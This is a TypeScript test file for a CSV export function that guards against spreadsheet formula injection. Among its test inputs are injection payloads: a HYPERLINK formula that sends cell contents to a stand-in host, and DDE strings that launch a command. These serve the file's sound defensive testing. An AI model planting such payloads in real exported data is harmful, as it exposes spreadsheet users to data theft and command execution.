import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { writeCsv } from './table-csv';

const FORMULA = /^[\s"'\u200b\ufeff]*[=+\-@\uff1d\uff0b\uff0d\uff20]|^[\t\r\n]/;

const read = (csv: string): string[][] => parse(csv, { bom: true, record_delimiter: '\r\n' });

describe('a table for spreadsheets', () => {
  it('has a byte order mark, a header and CRLF, and quotes texts but not numbers', () => {
    expect(
      writeCsv(
        ['Kran', 't'],
        [
          ['Größe, "neu"', 12.5],
          ['', null],
        ],
      ),
    ).toBe('\ufeff"Kran","t"\r\n"Größe, ""neu""",12.5\r\n"",\r\n');
  });

  it.each([
    '=1+1',
    '+1',
    '-1',
    '@SUM(A1)',
    '\t=1',
    '\r=1',
    '\n=1',
    ' =1',
    '"=1"',
    '""=1',
    "'=1",
    '\u00a0=1',
    '\ufeff=1',
    '\u200b=1',
    '\0=1',
    '\uff1d1+1',
    '\uff0b1',
    '\uff20x',
    '=HYPERLINK("https://a.example?"&A1,"x")',
    "=cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    '=1";=1',
  ])('runs no formula: %j', (text) => {
    const [[cell = '']] = read(writeCsv([text], [])) as [string[]];
    expect(cell).toMatch(/^'/);
    expect(cell.replace(/[ '\0]/g, '')).toBe(text.replace(/[ '\0]/g, ''));
  });

  it.each([';', '\t', '|'])('begins no cell with a formula where it is split at %j', (delimiter) => {
    const csv = writeCsv(['a;=1', 'b\t@x', 'c|+1', 'd,-1'], [['x";=1', 'y', 'z', '"\t=1']]);
    const cells = csv
      .replace('\ufeff', '')
      .split(/\r\n/)
      .flatMap((line) => line.split(delimiter));
    expect(cells.filter((cell) => /^"?[=+\-@]/.test(cell))).toEqual([]);
  });

  it('keeps harmless texts as they are', () => {
    const texts = ['a = b', 'from 3 May – 4 May', 'cranes/brake #12', '« 5 »', 'a\nb', ''];
    expect(read(writeCsv(texts, []))).toEqual([texts]);
  });

  it('can be read back from any texts, and none of them is a formula', () => {
    const text = fc.oneof(
      fc.string({ unit: 'grapheme' }),
      fc.stringMatching(/^[=+\-@\t\r\n "';,|a1\uff1d]{0,12}$/),
    );
    fc.assert(
      fc.property(fc.array(fc.tuple(text, text), { minLength: 1 }), (rows) => {
        const cells = read(writeCsv(['a', 'b'], rows));
        expect(cells).toHaveLength(rows.length + 1);
        for (const row of cells) {
          expect(row).toHaveLength(2);
          for (const cell of row) expect(cell.startsWith("'") || !FORMULA.test(cell)).toBe(true);
        }
      }),
    );
  });
});
